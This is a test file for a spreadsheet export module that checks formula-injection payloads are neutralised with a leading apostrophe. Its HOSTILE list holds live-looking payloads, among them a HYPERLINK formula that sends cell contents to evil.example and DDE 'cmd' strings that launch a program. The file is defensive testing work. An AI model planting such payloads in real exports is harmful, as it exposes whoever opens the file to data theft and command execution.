import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { useTestApp } from '../../../test/app.js';
import { neutralise, toXlsx } from './export.js';

const t = useTestApp();

/** Text a spreadsheet would run as a formula once the file is saved as CSV and opened again. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
  '=1+1',
  '+86-10-1234',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|'/C calc'!A0",
];
const HARMLESS = ['张三', '13800000001', '1+1', ' =1+1', 'a=b', '', '（=）'];

async function cells(buf: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as any);
  const ws = wb.worksheets[0];
  const out: { value: unknown; type: ExcelJS.ValueType }[][] = [];
  ws.eachRow((row) => {
    const r: { value: unknown; type: ExcelJS.ValueType }[] = [];
    for (let c = 1; c <= ws.columnCount; c++) r.push({ value: row.getCell(c).value, type: row.getCell(c).type });
    out.push(r);
  });
  return out;
}

describe('exports never carry a formula (CSV / formula injection)', () => {
  it('prefixes every text cell that starts with = + - @ tab or CR with an apostrophe, and leaves other text alone', async () => {
    const buf = await toXlsx('名单', [{ header: '内容', value: (r: string) => r }], [...HOSTILE, ...HARMLESS]);
    const read = (await cells(buf)).slice(1).map((r) => r[0]);
    // The xlsx XML keeps a CR as a line break: compare line breaks as one.
    const lines = (v: unknown) => String(v).replace(/\r\n?/g, '\n');
    expect(read.slice(0, HOSTILE.length).map((c) => lines(c.value))).toEqual(HOSTILE.map((h) => lines(`'${h}`)));
    expect(read.slice(HOSTILE.length).map((c) => c.value ?? '')).toEqual(HARMLESS);
    expect(read.every((c) => c.type !== ExcelJS.ValueType.Formula)).toBe(true);
  });

  it('keeps real numbers numbers, a negative one included, and booleans and blanks as they are', async () => {
    const rows = [
      { amount: -1500.5, count: 0, ok: true, note: null },
      { amount: 2300, count: -3, ok: false, note: undefined },
    ];
    const buf = await toXlsx(
      '金额',
      [
        { header: '金额', value: (r: (typeof rows)[number]) => r.amount },
        { header: '人次', value: (r: (typeof rows)[number]) => r.count },
        { header: '是否', value: (r: (typeof rows)[number]) => r.ok },
        { header: '备注', value: (r: (typeof rows)[number]) => r.note },
      ],
      rows,
    );
    const read = (await cells(buf)).slice(1);
    expect(read.map((r) => r.map((c) => c.value))).toEqual([
      [-1500.5, 0, true, ''],
      [2300, -3, false, ''],
    ]);
    expect(read[0][0].type).toBe(ExcelJS.ValueType.Number);
    expect(read[1][1].type).toBe(ExcelJS.ValueType.Number);
    expect(neutralise(-7)).toBe(-7);
  });

  it('neutralises what a person typed, in a real export read back from the file', async () => {
    const mine = await t.org('公式矿');
    for (const [i, name] of HOSTILE.slice(0, 5).entries()) await t.person(mine, { name, employee_no: `=E${i}`, employment_category: 'contract' });
    const chair = await t.user([{ role: 'unionChair', org: mine }]);
    const res = await t.app.inject({ method: 'GET', url: '/api/v1/people/export.xlsx?sort=employeeNo', headers: { cookie: chair.cookie } });
    expect(res.statusCode).toBe(200);
    const read = (await cells(res.rawPayload)).slice(1);
    expect(read.map((r) => r[0].value)).toEqual(HOSTILE.slice(0, 5).map((h) => `'${h}`));
    expect(read.map((r) => r[1].value)).toEqual([0, 1, 2, 3, 4].map((i) => `'=E${i}`));
  });
});
